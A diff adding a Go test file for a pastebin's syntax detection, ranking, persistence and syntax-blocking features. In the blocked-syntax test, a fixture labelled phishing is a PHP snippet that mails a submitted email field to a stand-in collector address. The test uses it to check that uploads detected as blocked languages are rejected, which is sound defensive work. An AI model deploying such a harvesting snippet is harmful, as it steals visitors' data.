@@ -0,0 +1,260 @@
+package qbin
+
+import (
+	"crypto/sha256"
+	"database/sql/driver"
+	"encoding/hex"
+	"strings"
+	"sync"
+	"testing"
+)
+
+var detectionLanguages = map[string]bool{"go": true, "python": true, "bash": true, "javascript": true, "sql": true}
+
+func TestDetectSyntax(t *testing.T) {
+	languages = detectionLanguages
+	defer func() { languages = nil }()
+
+	tests := map[string]string{
+		"package main\n\nfunc main() {\n\tx := 1\n}\n":           "go",
+		"import os\n\ndef main():\n    if True:\n        pass\n": "python",
+		"#!/usr/bin/env bash\nls\n":                              "bash",
+		"#!/usr/bin/python3\nprint(1)\n":                         "python",
+		"SELECT id FROM documents WHERE views > 0;\n":            "sql",
+		"Hello World, this is just text.\n":                      "",
+		"#include <stdio.h>\nint main() {}\n":                    "", // c is not available
+	}
+	for content, expected := range tests {
+		if syntax := DetectSyntax(content); syntax != expected {
+			t.Errorf("Detected %q instead of %q for:\n%s", syntax, expected, content)
+		}
+	}
+}
+
+func TestRankSyntaxes(t *testing.T) {
+	languages = detectionLanguages
+	SyntaxDetection = true
+	defer func() {
+		languages = nil
+		SyntaxDetection = false
+		SyntaxCandidates = 0
+	}()
+
+	// Go and Python both match this content, and c doesn't exist
+	ambiguous := "import os\n\nfunc main() {\n\tx := 1\n}\n#include <stdio.h>\n"
+	candidates := RankSyntaxes(ambiguous, 5)
+	if len(candidates) != 2 || candidates[0] != (SyntaxCandidate{Syntax: "go", Score: 4}) || candidates[1] != (SyntaxCandidate{Syntax: "python", Score: 2}) {
+		t.Errorf("Unexpected candidates: %+v", candidates)
+	}
+	if candidates := RankSyntaxes(ambiguous, 1); len(candidates) != 1 || candidates[0].Syntax != "go" {
+		t.Errorf("Candidates weren't limited: %+v", candidates)
+	}
+
+	// The shebang is ranked first
+	candidates = RankSyntaxes("#!/bin/bash\nfunc main() {\n\tx := 1\n}\n", 5)
+	if len(candidates) != 2 || !candidates[0].Shebang || candidates[0].Syntax != "bash" || candidates[1].Syntax != "go" {
+		t.Errorf("Unexpected candidates with shebang: %+v", candidates)
+	}
+	if syntax := DetectSyntax("#!/bin/bash\nfunc main() {\n\tx := 1\n}\n"); syntax != "bash" {
+		t.Errorf("Detected %q instead of the shebang syntax", syntax)
+	}
+
+	// Store() returns the candidates if the syntax was detected
+	storedDocumentsDB("syntax-candidates")
+	SyntaxCandidates = 3
+	doc := Document{Content: ambiguous}
+	if err := Store(&doc); err != nil {
+		t.Fatal(err)
+	}
+	if doc.Syntax != "go" || len(doc.SyntaxCandidates) != 2 || doc.SyntaxCandidates[1].Syntax != "python" {
+		t.Errorf("Unexpected syntax candidates after storing: %s, %+v", doc.Syntax, doc.SyntaxCandidates)
+	}
+	doc = Document{Content: ambiguous, Syntax: "python"}
+	if err := Store(&doc); err != nil || doc.SyntaxCandidates != nil {
+		t.Errorf("Syntax candidates were returned for an explicit syntax: %+v, %v", doc.SyntaxCandidates, err)
+	}
+}
+
+func TestPersistDetectedSyntax(t *testing.T) {
+	languages = detectionLanguages
+	SyntaxDetection = true
+	defer func() {
+		languages = nil
+		SyntaxDetection = false
+		PersistDetectedSyntax = true
+	}()
+
+	// The fake database groups the stored documents by syntax, like the real one would
+	var mutex sync.Mutex
+	stored := []string{}
+	useFakeDB("detect-syntax", func(query string, args []driver.NamedValue) (*fakeRows, error) {
+		mutex.Lock()
+		defer mutex.Unlock()
+		if strings.HasPrefix(query, "INSERT INTO documents") {
+			stored = append(stored, args[3].Value.(string))
+			return &fakeRows{affected: 1}, nil
+		}
+		if strings.Contains(query, "GROUP BY syntax") {
+			counts := map[string]int64{}
+			for _, syntax := range stored {
+				counts[syntax]++
+			}
+			rows := &fakeRows{columns: []string{"syntax", "count"}}
+			for syntax, count := range counts {
+				rows.values = append(rows.values, []driver.Value{syntax, count})
+			}
+			return rows, nil
+		}
+		return nil, nil
+	})
+
+	for _, content := range []string{"package main\n\nfunc main() {}\n", "import os\n\ndef main():\n    pass\n", "just some text"} {
+		doc := Document{Content: content}
+		if err := Store(&doc); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if strings.Join(stored, ",") != "go,python," {
+		t.Errorf("Detected syntaxes weren't persisted: %q", stored)
+	}
+
+	stats, err := SyntaxStats()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(stats) != 3 || stats["go"] != 1 || stats["python"] != 1 || stats[""] != 1 {
+		t.Errorf("Unexpected syntax statistics: %v", stats)
+	}
+
+	// Without persisting, the detected syntax is only used for highlighting
+	PersistDetectedSyntax = false
+	doc := Document{Content: "package main\n\nfunc main() {}\n"}
+	if err := Store(&doc); err != nil {
+		t.Fatal(err)
+	}
+	if stored[len(stored)-1] != "" {
+		t.Errorf("Detected syntax was persisted although PersistDetectedSyntax is disabled: %q", stored[len(stored)-1])
+	}
+}
+
+func TestSyntaxFromContentType(t *testing.T) {
+	languages = detectionLanguages
+	defer func() { languages = nil }()
+
+	tests := map[string]string{
+		"application/json":             "", // json is not available
+		"text/x-go":                    "go",
+		"text/x-python; charset=utf-8": "python",
+		"Application/JavaScript":       "javascript",
+		"text/markdown":                "markdown!",
+		"application/x-sh":             "bash",
+		"text/plain":                   "",
+		"application/octet-stream":     "",
+		"":                             "",
+	}
+	for contentType, expected := range tests {
+		if syntax := SyntaxFromContentType(contentType); syntax != expected {
+			t.Errorf("Inferred %q instead of %q for %q", syntax, expected, contentType)
+		}
+	}
+}
+
+func TestSyntaxFromExtension(t *testing.T) {
+	languages = detectionLanguages
+	defer func() { languages = nil }()
+
+	tests := map[string]string{
+		"/raw.py":           "python",
+		"/cornflake.go":     "go",
+		"/script.JS":        "javascript",
+		"/install.sh":       "bash",
+		"/notes.md":         "markdown!",
+		"/main.c":           "", // c is not available
+		"/raw.txt":          "",
+		"/raw.none":         "",
+		"/raw":              "",
+		"/archive.tar.py":   "python",
+		"/directory.py/raw": "",
+	}
+	for name, expected := range tests {
+		if syntax := SyntaxFromExtension(name); syntax != expected {
+			t.Errorf("Inferred %q instead of %q for %q", syntax, expected, name)
+		}
+	}
+
+	documents := storedDocumentsDB("syntax-from-extension")
+	doc := Document{Content: "print(1)", Syntax: SyntaxFromExtension("/raw.py")}
+	if err := Store(&doc); err != nil {
+		t.Fatal(err)
+	}
+	hash := sha256.Sum256([]byte(doc.ID))
+	if row := documents[hex.EncodeToString(hash[:])]; row == nil || row[2] != "python" {
+		t.Errorf("Syntax from the extension wasn't stored: %v", row)
+	}
+}
+
+func TestSyntaxMarker(t *testing.T) {
+	languages = detectionLanguages
+	defer func() {
+		languages = nil
+		SyntaxMarker = false
+	}()
+	storedDocumentsDB("syntax-marker")
+
+	for _, test := range []struct{ content, syntax, expectedContent, expectedSyntax string }{
+		{"#!go\npackage main\n", "", "package main\n", "go"},
+		{"#!go\npackage main\n", "python", "#!go\npackage main\n", "python"},
+		{"#!/usr/bin/env python\nprint(1)\n", "", "#!/usr/bin/env python\nprint(1)\n", ""},
+		{"#!unknown\ntext\n", "", "#!unknown\ntext\n", ""},
+		{"#!none\n<b>text</b>\n", "", "<b>text</b>\n", ""},
+	} {
+		for _, enabled := range []bool{false, true} {
+			SyntaxMarker = enabled
+			doc := Document{Content: test.content, Syntax: test.syntax}
+			if err := Store(&doc); err != nil {
+				t.Fatal(err)
+			}
+			expectedContent, expectedSyntax := test.expectedContent, test.expectedSyntax
+			if !enabled {
+				expectedContent, expectedSyntax = test.content, test.syntax
+			}
+			if doc.Content != expectedContent || doc.Syntax != expectedSyntax {
+				t.Errorf("Wrong result for %q (enabled: %t): %q with syntax %q", test.content, enabled, doc.Content, doc.Syntax)
+			}
+		}
+	}
+}
+
+func TestBlockedDetectedSyntaxes(t *testing.T) {
+	languages = map[string]bool{"php": true, "javascript": true, "markup": true}
+	BlockedDetectedSyntaxes = []string{"php", "javascript"}
+	defer func() {
+		languages = nil
+		BlockedDetectedSyntaxes = nil
+	}()
+	storedDocumentsDB("blocked-syntax")
+
+	// The detected syntax is blocked even if the uploader claims something else
+	phishing := "<?php\n$mail = $_POST['email'];\nmail('collector@example.com', 'login', $mail);\n"
+	doc := Document{Content: phishing, Syntax: "markup"}
+	if err := Store(&doc); err != ErrBlockedSyntax {
+		t.Errorf("Document detected as a blocked syntax returned %v (expected: ErrBlockedSyntax)", err)
+	}
+	if errs := Validate(&Document{Content: phishing}); len(errs) != 1 || errs[0] != ErrBlockedSyntax {
+		t.Errorf("Validate() didn't report the blocked syntax: %v", errs)
+	}
+
+	// A single line looking like JavaScript isn't confident enough
+	doc = Document{Content: "Just set var x = 1 in the config\nconst y = 2 works too\n"}
+	if candidates := RankSyntaxes(doc.Content, 1); len(candidates) != 1 || candidates[0].Syntax != "javascript" {
+		t.Fatalf("Test content isn't detected as JavaScript: %+v", candidates)
+	}
+	if err := Store(&doc); err != nil {
+		t.Errorf("Low-confidence detection was blocked: %v", err)
+	}
+
+	// A shebang is always confident enough
+	if err := Store(&Document{Content: "#!/usr/bin/env node\nprocess.exit(1)\n"}); err != ErrBlockedSyntax {
+		t.Errorf("Blocked shebang returned %v (expected: ErrBlockedSyntax)", err)
+	}
+}